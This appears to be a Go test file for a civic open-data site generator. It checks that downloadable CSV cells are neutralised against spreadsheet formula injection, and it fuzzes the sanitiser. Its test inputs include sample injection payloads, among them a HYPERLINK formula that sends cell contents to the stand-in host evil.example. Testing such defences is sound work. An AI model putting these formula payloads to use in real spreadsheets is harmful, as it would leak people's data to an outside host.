package opendata_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"gongkai/generator/diag"
	"gongkai/generator/opendata"
	"gongkai/generator/table"
)

// TestCell pins the formula neutralisation of downloadable CSV: text that
// a spreadsheet would run gets a leading ', numbers stay numbers.
func TestCell(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("https://evil.example/?"&A1,"点此")`, `'=HYPERLINK("https://evil.example/?"&A1,"点此")`},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"+", "'+"},
		{"-12.50", "-12.50"},
		{"+12", "+12"},
		{"-1,234.50", "-1,234.50"},
		{"-.5", "'-.5"},
		{"-12.", "'-12."},
		{"-1e5", "'-1e5"},
		{"2460000.00", "2460000.00"},
		{"雨污管网改造", "雨污管网改造"},
		{"a=1", "a=1"},
		{" =1", " =1"},
		{"", ""},
	}
	for _, c := range cases {
		if got := opendata.Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q; want %q", c.in, got, c.want)
		}
	}
}

// TestTableCSVNeutralises reads a clerk's CSV with formulas in text cells
// and checks the downloadable file: the text cells are made text, the
// amounts and their total stay numbers.
func TestTableCSVNeutralises(t *testing.T) {
	src := "用途,金额,备注\n\"=HYPERLINK(\"\"https://evil.example\"\",\"\"点此\"\")\",-12.50,@SUM(A1:A9)\n+1+1,100.00,-\n"
	tb, ds := table.Read("x.csv", []byte(src), []string{"金额"}, diag.Position{File: "x/index.md"})
	if ds.HasErrors() {
		t.Fatalf("table: %v", ds)
	}
	out := opendata.TableCSV(tb)
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"用途", "金额", "备注"},
		{`'=HYPERLINK("https://evil.example","点此")`, "-12.50", "'@SUM(A1:A9)"},
		{"'+1+1", "100.00", "'-"},
		{"合计", "87.50", ""},
	}
	if len(rows) != len(want) {
		t.Fatalf("rows %q; want %q", rows, want)
	}
	for i := range want {
		if strings.Join(rows[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("row %d = %q; want %q", i, rows[i], want[i])
		}
	}
	// The table itself, which the page shows, keeps the text as written.
	if tb.Rows[0].Cells[0] != `=HYPERLINK("https://evil.example","点此")` {
		t.Errorf("the table's cell was changed: %q", tb.Rows[0].Cells[0])
	}
}

func FuzzCell(f *testing.F) {
	for _, s := range []string{"=1", "-12.50", "+", "@", "\t", "abc", "-1,000", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := opendata.Cell(s)
		if got != s && got != "'"+s {
			t.Fatalf("Cell(%q) = %q", s, got)
		}
		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) {
			// Only a plain number may still start with a sign.
			for _, c := range got[1:] {
				if !strings.ContainsRune("0123456789,.", c) {
					t.Fatalf("Cell(%q) = %q still starts a formula", s, got)
				}
			}
		}
	})
}
